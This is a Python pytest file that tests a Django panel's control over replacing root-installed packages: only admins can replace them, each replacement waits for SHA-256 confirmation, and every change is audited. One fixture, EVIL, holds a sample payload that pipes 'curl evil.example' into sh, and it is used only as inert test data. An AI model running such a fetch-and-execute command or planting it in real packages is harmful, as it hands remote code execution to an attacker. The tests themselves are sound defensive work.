"""Replacing a package nodes install as root, written as the attacks: an operator swapping a stored file, a
replacement reaching nodes before an admin checked its checksum, a confirm for bytes the admin never saw."""

import hashlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from panel.audit import actions
from panel.audit.models import AuditEntry
from panel.provisioning import store
from panel.provisioning.models import PackageFile
from panel.provisioning.services import package_offer
from tests.conftest import api_client_for

pytestmark = pytest.mark.django_db(transaction=True)  # stored files are removed on commit

NAME = "Ascend-cann-toolkit_8.3.RC2_linux-aarch64.run"
GOOD, EVIL = b"#!/bin/sh\necho toolkit\n", b"#!/bin/sh\ncurl evil.example | sh\n"


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


@pytest.fixture
def stored(settings, tmp_path, alice):
    settings.DATA_DIR = tmp_path / "panel-data"
    return store.add_package(SimpleUploadedFile(NAME, GOOD), user=alice, vendor_sha256=sha(GOOD))


def client_for(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def offered_sha(name=NAME) -> str:
    return next(p["sha256"] for p in package_offer("http://panel") if p["name"] == name)


def download_token_of_a_running_install() -> str:
    from panel.core.domain.choices import OperationKind, OperationStatus
    from panel.operations.models import Operation
    from panel.provisioning.services import download_token

    Operation.objects.create(
        kind=OperationKind.INSTALL, status=OperationStatus.RUNNING, params={"download_grant": "grant-1"}
    )
    return download_token("grant-1")


def test_an_operator_cannot_replace_a_stored_package_through_the_api(stored, bob):
    response = api_client_for(bob).post(
        "/api/v1/packages/", {"file": SimpleUploadedFile(NAME, EVIL)}, format="multipart"
    )
    assert response.status_code == 403
    assert "Only an admin may replace" in response.json()["detail"]
    stored.refresh_from_db()
    assert (stored.sha256, stored.pending_sha256) == (sha(GOOD), "")
    assert not (store.conf.packages_dir() / sha(EVIL)).exists()  # not a byte written


def test_an_operator_cannot_replace_a_stored_package_through_the_page(stored, bob):
    response = client_for(bob).post("/provisioning/packages/", {"file": SimpleUploadedFile(NAME, EVIL)})
    assert response.status_code == 403
    assert "Only an admin may replace" in response.content.decode()
    assert PackageFile.objects.get(name=NAME).pending_sha256 == ""


def test_an_operator_still_adds_new_packages_which_wait_for_an_admins_approval(stored, bob):
    other = "Ascend-cann-nnal_8.3.RC2_linux-aarch64.run"
    response = api_client_for(bob).post(
        "/api/v1/packages/",
        {"file": SimpleUploadedFile(other, GOOD), "vendor_sha256": sha(GOOD)},
        format="multipart",
    )
    assert response.status_code == 201, response.content
    assert (response.json()["sha256"], response.json()["pending_sha256"]) == ("", sha(GOOD))
    assert other not in [p["name"] for p in package_offer("http://panel")]


def test_an_admins_replacement_is_not_installed_until_its_sha256_is_confirmed(stored, alice):
    client = api_client_for(alice)
    response = client.post(
        "/api/v1/packages/",
        {"file": SimpleUploadedFile(NAME, EVIL), "vendor_sha256": sha(EVIL)},
        format="multipart",
    )
    assert response.status_code == 201, response.content
    assert response.json()["sha256"] == sha(GOOD)
    assert response.json()["pending_sha256"] == sha(EVIL)
    assert offered_sha() == sha(GOOD)  # installs still get the confirmed file
    page = client_for(alice).get("/provisioning/packages/").content.decode()
    assert sha(EVIL) in page
    assert "Pending replacement" in page

    # Nor can an agent fetch the pending bytes, even with the download token of a running install.
    token = download_token_of_a_running_install()
    assert Client().get(f"/provisioning/packages/{sha(EVIL)}/{NAME}?token={token}").status_code == 404
    response = Client().get(f"/provisioning/packages/{sha(GOOD)}/{NAME}?token={token}")
    assert b"".join(response.streaming_content) == GOOD

    response = client.post(f"/api/v1/packages/{stored.pk}/confirm/", {"sha256": sha(EVIL)}, format="json")
    assert response.status_code == 200, response.content
    assert (response.json()["sha256"], response.json()["pending_sha256"]) == (sha(EVIL), "")
    assert offered_sha() == sha(EVIL)
    assert not (store.conf.packages_dir() / sha(GOOD)).exists()  # the replaced file is gone from disk


def test_a_confirm_must_name_the_pending_checksum(stored, alice):
    store.add_package(SimpleUploadedFile(NAME, EVIL), user=alice, vendor_sha256=sha(EVIL))
    response = api_client_for(alice).post(
        f"/api/v1/packages/{stored.pk}/confirm/", {"sha256": sha(b"what the admin checked")}, format="json"
    )
    assert response.status_code == 400
    assert sha(EVIL) in str(response.json())
    assert offered_sha() == sha(GOOD)


def test_an_operator_cannot_confirm_or_discard(stored, alice, bob):
    store.add_package(SimpleUploadedFile(NAME, EVIL), user=alice, vendor_sha256=sha(EVIL))
    client = api_client_for(bob)
    assert client.post(f"/api/v1/packages/{stored.pk}/confirm/", {"sha256": sha(EVIL)}).status_code == 403
    assert client.post(f"/api/v1/packages/{stored.pk}/discard/").status_code == 403
    page = client_for(bob)
    assert page.post(f"/provisioning/packages/{stored.pk}/confirm/", {"sha256": sha(EVIL)}).status_code == 403
    assert offered_sha() == sha(GOOD)


def test_an_admin_discards_a_replacement_from_the_page(stored, alice):
    store.add_package(SimpleUploadedFile(NAME, EVIL), user=alice, vendor_sha256=sha(EVIL))
    response = client_for(alice).post(f"/provisioning/packages/{stored.pk}/discard/")
    assert response.status_code == 302
    stored.refresh_from_db()
    assert (stored.sha256, stored.pending_sha256) == (sha(GOOD), "")
    assert not (store.conf.packages_dir() / sha(EVIL)).exists()


def test_every_package_change_is_audited(stored, alice):
    store.add_package(SimpleUploadedFile(NAME, EVIL), user=alice, vendor_sha256=sha(EVIL))
    package = store.confirm_replacement(PackageFile.objects.get(name=NAME), sha(EVIL), user=alice)
    store.delete_package(package, user=alice)
    assert list(AuditEntry.objects.order_by("pk").values_list("action", "actor_name", "target")) == [
        (actions.PACKAGE_ADDED, "alice", NAME),
        (actions.PACKAGE_REPLACEMENT_PENDING, "alice", NAME),
        (actions.PACKAGE_REPLACEMENT_CONFIRMED, "alice", NAME),
        (actions.PACKAGE_DELETED, "alice", NAME),
    ]
